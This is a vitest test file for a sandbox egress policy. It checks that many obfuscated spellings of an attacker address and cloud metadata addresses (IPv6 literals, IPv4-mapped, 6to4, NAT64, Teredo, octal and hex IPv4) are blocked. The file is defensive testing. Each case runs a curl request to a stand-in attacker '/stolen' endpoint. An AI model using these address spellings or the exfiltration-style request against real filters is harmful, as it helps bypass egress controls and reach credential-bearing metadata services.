/** B13: IPv6 literals, IPv4 in the clothes of IPv6, and clouds' own addresses. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER, METADATA } from "../../support/internet/addresses.ts";
import { type AttackScene, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import { toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

const obstacle = findObstacle();
const { ipv4, ipv6 } = ATTACKER;

/** Written → as the report names it. */
const SPELLINGS = {
  [`[${ipv6}]`]: ipv6,
  [`[${ipv6.toUpperCase()}]`]: ipv6,
  "[2001:0db8:0bad:0000:0000:0000:0000:0066]": ipv6,
  // As the program named it; IPv4 on the wire.
  [`[::ffff:${ipv4}]`]: `::ffff:${ipv4}`,
  "[::ffff:cb00:7142]": `::ffff:${ipv4}`,
  "[0:0:0:0:0:ffff:203.0.113.66]": `::ffff:${ipv4}`,
  // 6to4 (RFC 3056), NAT64 (RFC 6052), Teredo (RFC 4380), IPv4-compatible and SIIT: all carry 203.0.113.66.
  "[2002:cb00:7142::1]": "2002:cb00:7142::1",
  "[64:ff9b::cb00:7142]": "64:ff9b::cb00:7142",
  "[2001:0:cb00:7142:0:ffff:0:1]": "2001:0:cb00:7142:0:ffff:0:1",
  "[::cb00:7142]": "::cb00:7142",
  "[::ffff:0:cb00:7142]": "::ffff:0:cb00:7142",
  [`[${METADATA.ipv6}]`]: METADATA.ipv6,
  [METADATA.ipv4]: METADATA.ipv4,
  "[fe80::1%25eth0]": "fe80::1",
  // What inet_aton(3) takes for IPv4.
  "3405803842": ipv4,
  "0xcb.0.0x71.66": ipv4,
  "0313.0.0161.0102": ipv4,
  "203.0.28994": ipv4,
} as const;

describe.skipIf(obstacle !== "")(`an address written as${obstacle}`, () => {
  let scene: AttackScene;
  let volley: Volley;
  beforeAll(async () => {
    scene = await createAttackScene();
    const attacks = Object.keys(SPELLINGS).map((host) => [
      host,
      `curl -sS -g -m 3 'http://${host}/stolen'`,
    ]);
    volley = await fireAll(scene.pod, Object.fromEntries(attacks), {
      policy: toPolicy({ allow: ["github.test", "10.0.0.0/8", "[2001:db8:1::]/48"] }),
    });
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  test.each(Object.entries(SPELLINGS))("%s is refused as %s", (host, seen) => {
    const { status, stdout, blocked } = volley.shot(host);

    expect(stdout).toBe("");
    expect(status).toBe(7);
    expect(blocked.map(({ text }) => text)).toEqual([`tcp ${seen} 80`]);
  });

  test("anything of these sends nothing", async () => {
    expect(volley.run.escaped).toEqual([]);
    expect(await scene.internet.visits()).toEqual([]);
  });
});
